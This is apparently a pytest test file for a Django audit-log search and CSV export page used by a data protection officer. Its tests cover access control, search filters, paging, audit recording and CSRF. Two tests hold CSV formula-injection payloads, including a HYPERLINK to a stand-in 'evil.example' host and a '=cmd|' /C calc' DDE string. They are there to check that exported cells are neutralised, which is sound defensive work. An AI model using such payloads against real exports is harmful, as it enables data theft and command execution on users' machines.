"""The data protection officer's audit log page: search and export (DPA 2018 s.62(4), (5))."""

import csv
import io
from datetime import UTC, date, datetime
from unittest import mock

import pytest
from django.conf import settings
from django.db import connection, transaction
from django.urls import reverse
from django.utils.crypto import get_random_string

from pont.audit import services
from pont.audit.models import AuditEvent
from pont.audit.selectors import AuditSearch, audit_event_search
from pont.people.services import person_create
from pont.testing.personas import ANON, CUSTODY, DPO, PROV_A, SYSADMIN

Operation = AuditEvent.Operation
SEARCH = reverse("audit:search")
EXPORT = reverse("audit:export")
EXPORT_HEADER = [
    "index",
    "time_utc",
    "operation",
    "actor",
    "organisation_id",
    "person_reference",
    "object_type",
    "object_id",
    "reason",
    "recipient",
    "request_id",
    "hash",
]


def make_person(world, given_name: str = "Ann"):
    return person_create(
        actor=world.users["custody"],
        given_name=given_name,
        family_name="Jones",
        date_of_birth=date(1990, 4, 1),
        gender="female",
        confirmed_new=True,
    )


def record(*, at: datetime | None = None, **kwargs) -> AuditEvent:
    kwargs.setdefault("operation", Operation.CONSULTATION)
    with transaction.atomic():
        if at is None:
            return services.record(**kwargs)
        with mock.patch("django.utils.timezone.now", return_value=at):
            return services.record(**kwargs)


def shown(response) -> list[int]:
    """Return the indexes of the events on the results page."""
    assert response.status_code == 200
    page = response.context["page"]
    assert page is not None, "the search did not run"
    return [event.sequence for event in page]


def new_events(after: int, operation: str | None = None) -> list[AuditEvent]:
    events = AuditEvent.objects.filter(sequence__gt=after)
    if operation:
        events = events.filter(operation=operation)
    return list(events)


def last_index() -> int:
    last = AuditEvent.objects.order_by("-sequence").first()
    return last.sequence if last else 0


def with_csrf(client):
    token = get_random_string(32)
    client.cookies[settings.CSRF_COOKIE_NAME] = token
    return client, token


def export(client, data: dict):
    client, token = with_csrf(client)
    return client.post(EXPORT, data, HTTP_X_CSRFTOKEN=token)


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def dpo(as_persona):
    return as_persona(DPO)


@pytest.fixture
def two_people(world):
    return make_person(world, "Ann"), make_person(world, "Beth")


# Who may see the page


def test_the_page_without_criteria_shows_the_form_and_records_nothing(dpo):
    before = last_index()

    response = dpo.get(SEARCH)

    assert response.status_code == 200
    assert response.context["page"] is None
    assert "Search the log" in response.content.decode()
    assert last_index() == before


@pytest.mark.parametrize("code", [CUSTODY, SYSADMIN, PROV_A])
def test_staff_other_than_the_data_protection_officer_are_refused_the_search(as_persona, code):
    before = last_index()

    response = as_persona(code).get(SEARCH, {"actor": "custody"})

    assert response.status_code == 403
    assert new_events(before, Operation.CONSULTATION) == []


def test_an_anonymous_visitor_is_sent_to_sign_in(as_persona):
    response = as_persona(ANON).get(SEARCH, {"actor": "custody"})

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_the_search_answers_only_get(dpo):
    client, token = with_csrf(dpo)

    assert client.post(SEARCH, {"actor": "custody"}, HTTP_X_CSRFTOKEN=token).status_code == 405


# Searching


@pytest.mark.parametrize("form", ["P{pk:06d}", "p{pk:06d}", "{pk}", " P{pk} "])
def test_the_officer_finds_the_events_about_a_person_by_reference(dpo, world, two_people, form):
    ann, beth = two_people
    about_ann = record(actor=world.users["custody"], subject=ann, reason="viewed Ann")
    record(actor=world.users["custody"], subject=beth, reason="viewed Beth")
    ann_events = list(
        AuditEvent.objects.filter(subject_person_id=ann.pk).values_list("sequence", flat=True)
    )
    assert about_ann.sequence in ann_events
    assert len(ann_events) == 2  # her collection, and the consultation

    response = dpo.get(SEARCH, {"person": form.format(pk=ann.pk)})

    assert shown(response) == sorted(ann_events, reverse=True)
    assert response.context["page"].paginator.count == len(ann_events)


def test_the_officer_finds_the_events_by_a_member_of_staff_by_username(dpo, world, two_people):
    by_provider = record(actor=world.users["prov_a"], subject=two_people[0])
    record(actor=world.users["custody"], subject=two_people[0])

    response = dpo.get(SEARCH, {"actor": "PROV-A"})

    assert shown(response) == [by_provider.sequence]


def test_the_search_by_member_of_staff_reads_its_index_not_the_whole_log(world, two_people):
    """The log grows without end: the search by username finds its events through the index
    of lowered labels (audit_actor_sequence), on both databases."""
    record(actor=world.users["prov_a"], subject=two_people[0])
    events = audit_event_search(user=world.users[DPO], criteria=AuditSearch(actor="PROV-A"))
    with transaction.atomic(), connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            # A handful of rows: the planner would rightly read the table; it is told not to,
            # so that the plan shows whether the index can serve the condition at all.
            cursor.execute("SET LOCAL enable_seqscan = off")
        plan = events.explain()
    assert "audit_actor_sequence" in plan, plan
    # The condition is looked up in the index (SQLite's SEARCH, PostgreSQL's Index Cond), not
    # tested row by row. (Whether the few rows found are then sorted, or read in the index's
    # order, is the planner's choice by their number.)
    assert "SEARCH audit_auditevent USING INDEX" in plan or "Index Cond: (lower(" in plan, plan
    assert [e.actor_label for e in events] == ["prov-a"]


def test_the_officer_finds_the_events_of_one_operation(dpo, world, two_people):
    erased = record(actor=None, operation=Operation.ERASURE, subject=two_people[1])

    response = dpo.get(SEARCH, {"operation": Operation.ERASURE})

    assert shown(response) == [erased.sequence]


def test_the_officer_finds_the_events_in_a_date_range_inclusive_of_both_ends(dpo, world):
    custody = world.users["custody"]
    record(actor=custody, at=datetime(2026, 1, 31, 12, 0, tzinfo=UTC), reason="before")
    first = record(actor=custody, at=datetime(2026, 2, 1, 9, 0, tzinfo=UTC), reason="first day")
    middle = record(actor=custody, at=datetime(2026, 2, 10, 12, 0, tzinfo=UTC), reason="middle")
    last = record(actor=custody, at=datetime(2026, 2, 20, 18, 0, tzinfo=UTC), reason="last day")
    record(actor=custody, at=datetime(2026, 2, 21, 12, 0, tzinfo=UTC), reason="after")

    response = dpo.get(
        SEARCH,
        {
            "actor": "custody",
            "date_from_0": "1",
            "date_from_1": "2",
            "date_from_2": "2026",
            "date_to_0": "20",
            "date_to_1": "2",
            "date_to_2": "2026",
        },
    )

    assert shown(response) == [last.sequence, middle.sequence, first.sequence]


def test_criteria_combine(dpo, world, two_people):
    ann, beth = two_people
    wanted = record(actor=world.users["prov_a"], operation=Operation.ALTERATION, subject=ann)
    record(actor=world.users["prov_a"], operation=Operation.ALTERATION, subject=beth)
    record(actor=world.users["prov_a"], operation=Operation.CONSULTATION, subject=ann)
    record(actor=world.users["custody"], operation=Operation.ALTERATION, subject=ann)

    response = dpo.get(
        SEARCH, {"person": f"P{ann.pk:06d}", "actor": "prov-a", "operation": "alteration"}
    )

    assert shown(response) == [wanted.sequence]


def test_a_search_with_no_match_says_so(dpo):
    response = dpo.get(SEARCH, {"actor": "nobody-by-this-name"})

    assert shown(response) == []
    assert "0 events" in response.content.decode()


def test_the_results_are_paged_fifty_at_a_time_newest_first(dpo):
    for n in range(55):
        record(actor=None, reason=f"n{n}", subject=777)

    first = dpo.get(SEARCH, {"person": "777"})
    second = dpo.get(SEARCH, {"person": "777", "page": "2"})

    # Each search is itself recorded against person 777, after it has been answered.
    first_page = shown(first)
    assert len(first_page) == 50
    assert first_page == sorted(first_page, reverse=True)
    assert first.context["page"].paginator.count == 55
    assert len(shown(second)) == 6
    assert second.context["page"].paginator.count == 56


# Reading the log is itself recorded


def test_every_search_is_recorded_as_a_consultation_with_its_criteria(dpo, world, two_people):
    ann = two_people[0]
    before = last_index()

    dpo.get(
        SEARCH,
        {
            "person": f"P{ann.pk:06d}",
            "actor": "custody",
            "operation": "collection",
            "date_from_0": "1",
            "date_from_1": "1",
            "date_from_2": "2020",
            "date_to_0": "31",
            "date_to_1": "12",
            "date_to_2": "2030",
        },
    )
    dpo.get(SEARCH, {"actor": "prov-a"})

    events = new_events(before)
    assert [(e.operation, e.actor_label, e.subject_person_id) for e in events] == [
        (Operation.CONSULTATION, "dpo", ann.pk),
        (Operation.CONSULTATION, "dpo", None),
    ]
    assert events[0].organisation == world.force
    assert events[0].object_type == "audit.auditevent"
    assert events[0].detail == {
        "search": {
            "person_id": ann.pk,
            "actor": "custody",
            "operation": "collection",
            "date_from": "2020-01-01",
            "date_to": "2030-12-31",
        },
        "page": 1,
    }
    assert events[1].detail == {"search": {"actor": "prov-a"}, "page": 1}
    assert len(events[0].request_id) == 32
    assert events[0].request_id != events[1].request_id


def test_a_search_does_not_show_the_consultation_that_records_it(dpo, world, two_people):
    ann = two_people[0]
    about_ann = list(
        AuditEvent.objects.filter(subject_person_id=ann.pk).values_list("sequence", flat=True)
    )
    assert len(about_ann) == 1  # her collection

    response = dpo.get(SEARCH, {"person": str(ann.pk)})

    assert shown(response) == about_ann
    assert "1 event" in response.content.decode()


# Bad input


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"person": "abc"}, "person", "Enter a Pont reference like P000123."),
        ({"person": "P12a"}, "person", "Enter a Pont reference like P000123."),
        (
            {
                "date_from_0": "10",
                "date_from_1": "2",
                "date_from_2": "2026",
                "date_to_0": "9",
                "date_to_1": "2",
                "date_to_2": "2026",
            },
            "date_to",
            "The end date must be the same as or after the start date.",
        ),
        (
            {"date_from_0": "31", "date_from_1": "2", "date_from_2": "2026"},
            "date_from",
            "The date must be a real date",
        ),
        (
            {"date_to_0": "1", "date_to_1": "13", "date_to_2": "2026"},
            "date_to",
            "The date must be a real date",
        ),
        ({"date_from_0": "1", "date_from_2": "2026"}, "date_from", "must include a day, a month"),
        ({"date_from_0": "1", "date_from_1": "2", "date_from_2": "26"}, "date_from", "4 numbers"),
        ({"operation": "read"}, "operation", "Select a valid choice."),
    ],
)
def test_bad_search_input_is_shown_as_a_field_error_and_records_nothing(dpo, query, field, message):
    before = last_index()

    response = dpo.get(SEARCH, query)

    assert response.status_code == 200
    assert response.context["page"] is None
    assert message in " ".join(response.context["form"].errors[field])
    assert message in response.content.decode()
    assert "govuk-error-summary" in response.content.decode()
    assert last_index() == before


# Export


def test_the_export_is_a_csv_of_the_matching_events_with_a_header(dpo, world, two_people):
    ann, beth = two_people
    record(actor=world.users["prov_a"], subject=ann, reason="checked contact")
    record(actor=world.users["prov_a"], subject=beth)
    expected = list(AuditEvent.objects.filter(subject_person_id=ann.pk).order_by("sequence"))
    assert len(expected) == 2

    response = export(dpo, {"person": f"P{ann.pk:06d}", "recipient": "ICO", "reason": "s.62(5)"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="pont-audit-')
    rows = read_csv(response)
    assert rows[0] == EXPORT_HEADER
    assert [row[0] for row in rows[1:]] == [str(event.sequence) for event in expected]
    second = dict(zip(EXPORT_HEADER, rows[2], strict=True))
    assert second == {
        "index": str(expected[1].sequence),
        "time_utc": expected[1].occurred_at.astimezone(UTC).isoformat(timespec="seconds"),
        "operation": "consultation",
        "actor": "prov-a",
        "organisation_id": str(world.provider_a.pk),
        "person_reference": f"P{ann.pk:06d}",
        "object_type": "",
        "object_id": "",
        "reason": "checked contact",
        "recipient": "",
        "request_id": "",
        "hash": expected[1].hash,
    }


def test_an_export_is_recorded_as_exactly_one_disclosure_with_recipient_and_reason(
    dpo, world, two_people
):
    ann = two_people[0]
    before = last_index()

    response = export(
        dpo,
        {
            "person": str(ann.pk),
            "operation": "collection",
            "recipient": "Information Commissioner's Office",
            "reason": "Request under s.62(5)",
        },
    )
    rows = read_csv(response)

    events = new_events(before)
    assert len(events) == 1
    disclosure = events[0]
    assert disclosure.operation == Operation.DISCLOSURE
    assert disclosure.actor == world.users["dpo"]
    assert disclosure.subject_person_id == ann.pk
    assert disclosure.recipient == "Information Commissioner's Office"
    assert disclosure.reason == "Request under s.62(5)"
    assert disclosure.detail == {
        "export": {"person_id": ann.pk, "operation": "collection"},
        "rows": 1,
    }
    assert len(rows) == 1 + 1


def test_the_export_holds_the_rows_its_disclosure_counts_and_not_itself(dpo, two_people):
    ann = two_people[0]
    before = last_index()

    rows = read_csv(export(dpo, {"person": str(ann.pk), "recipient": "ICO", "reason": "r"}))

    disclosure = new_events(before, Operation.DISCLOSURE)[0]
    exported = [int(row[0]) for row in rows[1:]]
    assert disclosure.sequence not in exported
    assert len(exported) == disclosure.detail["rows"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_exported_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised(dpo, start):
    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    record(actor=None, subject=4242, reason=formula)

    rows = read_csv(export(dpo, {"person": "4242", "recipient": "ICO", "reason": "r"}))

    reasons = [row[EXPORT_HEADER.index("reason")] for row in rows[1:]]
    assert reasons == ["'" + formula]


def test_an_export_recipient_and_reason_are_neutralised_in_later_exports(dpo):
    export(dpo, {"person": "4343", "recipient": "=cmd|' /C calc'!A0", "reason": "@SUM(1)"})

    rows = read_csv(
        export(dpo, {"person": "4343", "operation": "disclosure", "recipient": "x", "reason": "y"})
    )

    row = dict(zip(EXPORT_HEADER, rows[1], strict=True))
    assert row["recipient"] == "'=cmd|' /C calc'!A0"
    assert row["reason"] == "'@SUM(1)"


@pytest.mark.parametrize(
    "data",
    [
        {"reason": "for the ICO"},
        {"recipient": "ICO"},
        {"recipient": "   ", "reason": "for the ICO"},
        {},
    ],
)
def test_an_export_without_recipient_or_reason_is_refused_and_not_recorded(dpo, data):
    before = last_index()

    response = export(dpo, {"actor": "custody", **data})

    assert response.status_code == 400
    assert not response.has_header("Content-Disposition")
    assert "govuk-error-summary" in response.content.decode()
    assert new_events(before, Operation.DISCLOSURE) == []


def test_an_export_with_a_bad_search_is_refused_and_not_recorded(dpo):
    before = last_index()

    response = export(dpo, {"person": "abc", "recipient": "ICO", "reason": "r"})

    assert response.status_code == 400
    assert "Enter a Pont reference like P000123." in response.content.decode()
    assert new_events(before) == []


@pytest.mark.parametrize("code", [CUSTODY, SYSADMIN, PROV_A])
def test_staff_other_than_the_data_protection_officer_are_refused_the_export(as_persona, code):
    before = last_index()

    response = export(as_persona(code), {"recipient": "ICO", "reason": "r"})

    assert response.status_code == 403
    assert new_events(before) == []


def test_an_anonymous_visitor_cannot_export(as_persona):
    before = last_index()

    response = export(as_persona(ANON), {"recipient": "ICO", "reason": "r"})

    assert response.status_code == 302
    assert new_events(before) == []


def test_the_export_answers_only_post(dpo):
    assert dpo.get(EXPORT, {"recipient": "ICO", "reason": "r"}).status_code == 405


def test_an_export_without_a_csrf_token_is_refused_and_not_recorded(dpo):
    before = last_index()

    response = dpo.post(EXPORT, {"recipient": "ICO", "reason": "r"})

    assert response.status_code == 403
    assert new_events(before) == []
